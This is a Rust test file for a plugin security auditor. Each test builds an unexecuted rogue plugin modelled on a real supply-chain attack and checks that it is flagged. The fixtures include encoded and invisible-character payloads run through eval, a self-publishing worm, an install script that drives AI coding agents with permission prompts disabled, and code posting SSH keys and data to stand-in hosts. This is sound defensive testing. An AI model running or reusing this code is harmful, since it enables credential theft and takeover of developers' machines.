//! Rogue plugins: for each known attack on plugins elsewhere a small plugin that does the same, made here as files.
//!
//! None of them is run. What an attack did with the permissions that it had cannot be seen from permissions; that is a case
//! too.

use std::collections::BTreeSet;

use crate::common::Sandbox;

/// A plugin with these permissions, this package.json besides its name, and these files.
fn rogue(permissions: &str, package: &str, files: &[(&str, &str)]) -> Sandbox {
    let sandbox = Sandbox::new();
    let comma = if package.is_empty() { "" } else { "," };
    sandbox.write(
        "package.json",
        format!(
            r#"{{ "name": "@acme/tool", "kb": {{ "manifest": "./dist/manifest.js" }}{comma} {package} }}"#
        ),
    );
    sandbox.write(
        "src/manifest.ts",
        format!(
            "export const manifest = {{ schema: 'kb.plugin/3', id: '@acme/tool', version: '1.0.0',\n  \
             cli: {{ commands: [{{ id: 'run', handler: './run.js#default' }}] }},\n  \
             permissions: {{ {permissions} quotas: {{ timeoutMs: 1, memoryMb: 1 }} }} }};\n"
        ),
    );
    for (file, text) in files {
        sandbox.write(file, text);
    }
    sandbox
}

/// The rules of the findings that are at least of a severity.
fn found(sandbox: &Sandbox, severities: &[&str]) -> BTreeSet<String> {
    let report = sandbox.kbsec(["audit", "-f", "json"]).run().json();
    let findings = report["findings"].as_array().unwrap().iter();
    let severe = findings.filter(|it| severities.contains(&it["severity"].as_str().unwrap()));
    severe.map(|it| it["rule_id"].as_str().unwrap().trim_start_matches("plugin/").to_owned()).collect()
}

#[track_caller]
fn assert_caught(sandbox: &Sandbox, expected: &[&str]) {
    let found = found(sandbox, &["medium", "high", "critical"]);
    for rule in expected {
        assert!(found.contains(*rule), "{rule} is not among {found:?}");
    }
}

/// event-stream, 2018: an encoded payload, keyed to one application, compiled when it is decoded.
#[test]
fn a_payload_that_is_keyed_to_one_application() {
    let payload = "75d4c87f3f69e0fa".repeat(60);
    let code = format!(
        "const Module = require('module'); const crypto = require('crypto');
         export default {{ execute() {{
           const key = process.env['npm_package_' + 'description'];
           const decipher = crypto.createDecipheriv('aes256', key, '');
           const text = decipher.update(Buffer.from('{payload}', 'hex'));
           const made = new Module(); made._compile(text, ''); }} }};"
    );
    assert_caught(&rogue("", "", &[("src/run.ts", &code)]), &["obfuscation", "dynamic-code"]);
}

/// Nx, August 2025: a script at the install that asks the coding agents of the developer to search for secrets.
#[test]
fn an_install_script_that_drives_coding_agents() {
    let code = "import { spawnSync } from 'node:child_process'; import { homedir } from 'node:os';
         import { writeFileSync } from 'node:fs'; import { join } from 'node:path';
         export default { execute() {
           for (const agent of ['claude', 'gemini', 'q']) {
             const told = spawnSync(agent, ['--dangerously-skip-permissions', '-p', 'search']);
             writeFileSync(join(homedir(), '.bashrc'), told.stdout); } } };";
    let package = r#""scripts": { "postinstall": "node telemetry.js" }"#;
    let sandbox = rogue("", package, &[("src/run.ts", code)]);
    assert_caught(&sandbox, &["install-script", "undeclared-use"]);
    let run = sandbox.kbsec(["audit"]).run().code(1);
    assert!(run.stdout.contains("`claude`") && run.stdout.contains("`~/.bashrc`"), "{}", run.stdout);
}

/// Shai-Hulud, September and November 2025: it plants a workflow and publishes itself with the token that it finds.
#[test]
fn a_worm_that_plants_a_workflow_and_publishes_itself() {
    let code = "import * as fs from 'fs'; import { execSync } from 'child_process'; import path from 'path';
         export default { execute(ctx) {
           fs.writeFileSync(path.join(ctx.cwd, '.github/workflows/discussion.yaml'), 'on: push');
           execSync('trufflehog filesystem /'); execSync(`npm publish --token ${process.env.NPM_TOKEN}`); } };";
    let package = r#""scripts": { "preinstall": "node -e \"require('./setup')\"" }"#;
    let sandbox = rogue("", package, &[("src/run.ts", code)]);
    assert_caught(&sandbox, &["install-script", "undeclared-use"]);
    let run = sandbox.kbsec(["audit"]).run().code(1);
    for named in [".github/workflows/discussion.yaml", "`trufflehog`", "`NPM_TOKEN`"] {
        assert!(run.stdout.contains(named), "{named}\n{}", run.stdout);
    }
}

/// GlassWorm, October 2025: the payload is written in characters that no editor shows.
#[test]
fn a_payload_in_characters_that_nobody_sees() {
    let hidden: String = (0..200_u32).filter_map(|at| char::from_u32(0xE0100 + at % 200)).collect();
    let code = format!("export default {{ execute() {{ const text = '{hidden}'; eval(atob(text)); }} }};");
    assert_caught(&rogue("", "", &[("src/run.ts", &code)]), &["hidden-text", "dynamic-code"]);
}

/// Cyberhaven, December 2024: an update with the same permissions that talks to another host.
#[test]
fn an_update_that_talks_to_another_host() {
    let code = "export default { async execute(ctx) {
           const told = await ctx.runtime.fetch('https://api.acme.io/v1');
           await fetch('https://cyberhavenext.example/ai', { method: 'POST', body: await told.text() }); } };";
    let permissions = "network: { fetch: ['https://api.acme.io/*'] },";
    let sandbox = rogue(permissions, "", &[("src/run.ts", code)]);
    assert_caught(&sandbox, &["undeclared-use"]);
    assert!(sandbox.kbsec(["audit"]).run().stdout.contains("https://cyberhavenext.example"));
}

/// What editors without permissions see every month: a plugin that declares nothing and takes what it likes.
#[test]
fn a_plugin_that_declares_nothing() {
    let code = "const load = (name) => require(name);
         export default { async execute() {
           const { readFileSync } = load('f' + 's'); const { homedir } = load('os');
           const key = readFileSync(homedir() + '/.ssh/id_ed25519');
           await globalThis['fe' + 'tch']('https://collector.example/', { method: 'POST', body: key }); } };";
    let sandbox = rogue("", "", &[("src/run.ts", code)]);
    assert_caught(&sandbox, &["undeclared-use"]);
    let run = sandbox.kbsec(["audit"]).run().code(1);
    assert!(run.stdout.contains("https://collector.example"), "{}", run.stdout);
}

/// Jenkins, such as CVE-2026-48923: a route that nobody has to log in for, and that fetches what it is told.
#[test]
fn a_route_for_everybody_that_fetches_what_it_is_told() {
    let sandbox = rogue("network: { fetch: ['https://*'] },", "", &[]);
    sandbox.write(
        "src/manifest.ts",
        "export const manifest = { schema: 'kb.plugin/3', id: '@acme/tool', version: '1.0.0',
           rest: { basePath: '/v1/plugins/tool', routes: [
             { method: 'POST', path: '/check', handler: './check.js', security: ['none'] }] },
           permissions: { network: { fetch: ['https://*'] }, quotas: { timeoutMs: 1, memoryMb: 1 } } };",
    );
    sandbox.write(
        "src/check.ts",
        "export default { execute: (ctx, input) => ctx.runtime.fetch(input.body.url) };",
    );
    assert_caught(&sandbox, &["open-route", "network-wide"]);
}

/// The platform's own: a preset that lets a plugin enable itself, and a name of another.
#[test]
fn a_plugin_that_enables_itself_under_another_name() {
    let code = "export default { async execute(ctx) {
           await ctx.runtime.fs.writeFile('.kb/marketplace.lock', '{}'); } };";
    let sandbox = rogue("fs: { write: ['.kb/**'] },", "", &[("src/run.ts", code)]);
    let package = r#"{ "name": "@evil/tool", "kb": { "manifest": "./dist/manifest.js" } }"#;
    sandbox.write("package.json", package);
    assert_caught(&sandbox, &["control-plane", "foreign-id"]);
}

/// postmark-mcp, September 2025: one more recipient, in a call that was allowed. Permissions cannot tell it, and the
/// help says so.
#[test]
fn another_recipient_in_an_allowed_call_is_not_seen_and_that_is_said() {
    let code = "export default { async execute(ctx, input) {
           await ctx.runtime.fetch('https://api.postmarkapp.com/email', {
             method: 'POST', body: JSON.stringify({ To: input.to, Bcc: 'phan@giftshop.example' }) }); } };";
    let permissions = "network: { fetch: ['https://api.postmarkapp.com/*'] },";
    let sandbox = rogue(permissions, "", &[("src/run.ts", code)]);
    assert_eq!(found(&sandbox, &["low", "medium", "high", "critical"]), BTreeSet::new());
    let help = sandbox.kbsec(["audit", "--help"]).run().code(0);
    let help = help.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(help.contains("harm within what it may do"), "{help}");
}
